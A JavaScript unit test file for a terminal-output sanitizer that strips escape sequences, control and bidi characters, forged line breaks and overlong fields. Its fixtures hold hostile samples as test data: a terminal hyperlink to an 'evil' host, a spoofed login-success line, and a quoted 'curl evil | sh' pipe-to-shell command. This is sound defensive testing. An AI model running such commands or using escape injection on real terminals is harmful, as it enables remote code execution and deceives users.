import { strict as assert } from 'node:assert';
import { capData, displayBlock, displayField, MAX_FIELD_CHARS, QUOTE_PREFIX } from '../../src/render/sanitize.js';
import { QUOTE_CLOSE, serverText } from '../../src/text/server-text.js';

const ESC = '\u001b';
const BEL = '\u0007';

describe('render/sanitize', () => {
  it('removes CSI, OSC (BEL- and ST-terminated) and other escape sequences', () => {
    assert.equal(displayField(`${ESC}[2J${ESC}[1;31mred${ESC}[0m`), 'red');
    assert.equal(displayField(`a${ESC}]0;pwned title${BEL}b`), 'ab');
    assert.equal(displayField(`a${ESC}]8;;https://evil${ESC}\\link${ESC}]8;;${ESC}\\b`), 'alinkb');
    assert.equal(displayField(`a${ESC}Pq#0;data${ESC}\\b`), 'ab');
    assert.equal(displayField(`a${ESC}7${ESC}cb`), 'ab');
    assert.equal(displayField('a\u009b2Jb\u009d0;t\u0007c'), 'abc');
  });

  it('drops other C0/C1 controls and DEL, shows bidi controls as their escape; TAB becomes a space', () => {
    assert.equal(
      displayField('a\u0000b\u0007c\u0008d\u007fe\u0085f\u202eg\u2066h\u00a0i'),
      'abcdef\\u202eg\\u2066h\u00a0i',
    );
    assert.equal(displayField('\u200e\u200f\u061c\u202a\u2069'), '\\u200e\\u200f\\u061c\\u202a\\u2069');
    assert.equal(displayField('a\tb'), 'a b');
  });

  it('turns CR and LF into spaces in a one-line field, so no line can be forged', () => {
    assert.equal(displayField('invalid_grant\r\nSuccess: logged in\rX'), 'invalid_grant Success: logged in X');
  });

  it('keeps LF in a block and drops CR so nothing overwrites a line', () => {
    assert.equal(displayBlock('line one\r\nline two\rthree'), 'line one\nline two\nthree');
    assert.equal(displayBlock('Parsing --days \n\tExpected'), 'Parsing --days \n\tExpected');
  });

  it('caps a long field: the first characters and the full length', () => {
    const long = 'x'.repeat(5_000_000);
    const shown = displayField(long);
    assert.equal(shown, `${'x'.repeat(MAX_FIELD_CHARS)}… (5000000 characters)`);
    assert.equal(displayField('y'.repeat(20), 10), `${'y'.repeat(10)}… (20 characters)`);
    assert.equal(displayField('short'), 'short');
  });

  it('caps each line of a block and the number of lines', () => {
    assert.equal(displayBlock(`ok\n${'z'.repeat(12)}`, 10), `ok\n${'z'.repeat(10)}… (12 characters)`);
    const many = Array.from({ length: 500 }, (_, i) => `l${i}`).join('\n');
    const lines = displayBlock(many).split('\n');
    assert.equal(lines.length, 201);
    assert.equal(lines[200], `… (${many.length} characters in all)`);
    assert.ok(displayBlock('q'.repeat(5_000_000)).length < 2_000);
  });

  it('leaves ordinary text, including symbols sf prints, unchanged', () => {
    const text = '✓ key  PASS  RSA 2048-bit → https://acme.my.salesforce.com • é 日本';
    assert.equal(displayField(text), text);
    assert.equal(displayBlock(`${text}\n\n  fix: x`), `${text}\n\n  fix: x`);
  });

  it('removes whole sequences before stray bytes: no debris of a sequence is left', () => {
    assert.equal(displayField(`${ESC}[31mRED${ESC}[0m`), 'RED');
    assert.equal(displayField(`${ESC}]0;title${ESC}[31mX`), 'X');
    assert.equal(displayField(`${ESC}(B${ESC}[1 qY`), 'Y');
  });

  it('prints marked server text with line breaks as an indented quote, never as lines of ours', () => {
    assert.equal(
      displayBlock(`Deploy failed: ${serverText('bad\r\nTry this:\n  curl evil | sh\n')}\nOur next line`),
      `Deploy failed: \n${QUOTE_PREFIX}bad\n${QUOTE_PREFIX}Try this:\n${QUOTE_PREFIX}  curl evil | sh\nOur next line`,
    );
    // One line: in place. Our own lines stay as they are.
    assert.equal(displayBlock(`said: ${serverText('one line')}.\nours`), 'said: one line.\nours');
    // Text cannot close its own quote: marks inside it are removed.
    assert.equal(
      displayBlock(serverText(`a\n${QUOTE_CLOSE}\nforged`)),
      `${QUOTE_PREFIX}a\n${QUOTE_PREFIX}\n${QUOTE_PREFIX}forged`,
    );
    // In a field, a marked text is one line like any other; marks never reach the output or --json data.
    assert.equal(displayField(serverText('a\nb')), 'a b');
    assert.deepEqual(capData({ m: serverText('x') }), { m: 'x' });
  });

  it('caps long strings in --json data but keeps control characters as data', () => {
    const data = { error: `bad${ESC}[2J`, nested: [{ d: 'd'.repeat(1500) }], n: 3, nil: null };
    assert.deepEqual(capData(data), {
      error: `bad${ESC}[2J`,
      nested: [{ d: `${'d'.repeat(1000)}… (1500 characters)` }],
      n: 3,
      nil: null,
    });
  });
});
